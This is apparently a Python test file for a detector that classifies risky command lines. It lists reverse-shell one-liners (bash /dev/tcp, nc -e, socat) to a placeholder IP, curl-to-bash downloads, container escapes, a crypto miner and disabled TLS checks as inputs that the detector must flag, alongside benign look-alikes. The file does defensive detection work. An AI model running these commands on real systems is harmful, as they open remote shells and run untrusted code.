"""What command lines show, and what they must not be taken for."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seawall.analysis.posture.commandline import find_signs

SHOWN = [
    ("download", "sh -c curl -fsSL https://example.com/x.sh | bash -s -- --yes"),
    ("download", "wget -qO- http://example.com/x|sh"),
    ("download", "bash -c 'bash <(curl -s https://example.com/x)'"),
    ("shell", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"),
    ("shell", "nc -e /bin/sh 203.0.113.5 4444"),
    ("shell", "ncat 203.0.113.5 4444 -e /bin/bash"),
    ("shell", "socat tcp:203.0.113.5:443 exec:/bin/bash,pty"),
    ("escape", "nsenter --target 1 --mount -- bash"),
    ("escape", "nsenter --mount=/proc/1/ns/mnt -t 1 sh"),
    ("escape", "sh -c 'chroot /host systemctl restart kubelet'"),
    ("miner", "./xmrig -o pool.example.com:3333"),
    ("sudo", "sh -c 'sudo -E chown app /data'"),
    ("install", "apt-get update && apt-get install -y curl"),
    ("install", "pip3 install requests"),
    ("install", "npm --silent install left-pad"),
    ("unverified", "curl -skL https://vault.example.com"),
    ("unverified", "curl --insecure https://vault.example.com"),
    ("unverified", "--insecure-skip-tls-verify=true"),
    ("unverified", "app --tls-verify false"),
    ("docker", "dockerd -H tcp://0.0.0.0:2375"),
    ("jdwp", "java -agentlib:jdwp=transport=dt_socket,address=*:5005 -jar a.jar"),
    ("inspect", "node --inspect=0.0.0.0 server.js"),
    ("inspect", "dlv --headless --listen=:2345 exec /app"),
    ("jmx", "java -Dcom.sun.management.jmxremote.authenticate=false"),
]
PLAIN = [
    "curl -fsS https://example.com/data.json | jq -r .name",
    "wget -O /tmp/x https://example.com/x && sha256sum -c sums",
    "nc -z db 5432",
    "nc -lk -p 8080",
    "nsenter --net=/run/netns/a ip link",
    "chroot /srv/jail /bin/app",
    "/app/pseudo --sudoers=no",
    "helm install shop ./chart",
    "pip install .",
    "pip install -e .",
    "kubectl apply -f add.yaml",
    "curl -sS -o /dev/null -w %{http_code} https://example.com",
    "curl -K /etc/curlrc https://example.com",
    "--insecure-skip-tls-verify=false",
    "app --tls-verify=true",
    "dockerd -H unix:///var/run/docker.sock",
    "node --inspect server.js",
    "dlv --listen=127.0.0.1:2345 exec /app",
    "java -Dcom.sun.management.jmxremote.authenticate=true",
    "rsync --install --addresses",
]


@pytest.mark.parametrize(("sign", "command"), SHOWN)
def test_signs_are_found(sign: str, command: str) -> None:
    assert sign in find_signs(command)


@pytest.mark.parametrize("command", PLAIN)
def test_plain_commands_show_nothing(command: str) -> None:
    assert find_signs(command) == {}


@given(st.lists(st.sampled_from(["curl", "wget", "|", "sh", "nc", "-e", "sudo", "-k", " ", "tcp://", "install", "\n"])))
def test_what_is_shown_is_in_the_command(words: list[str]) -> None:
    text = " ".join(words)
    for found in find_signs(text).values():
        assert found in text
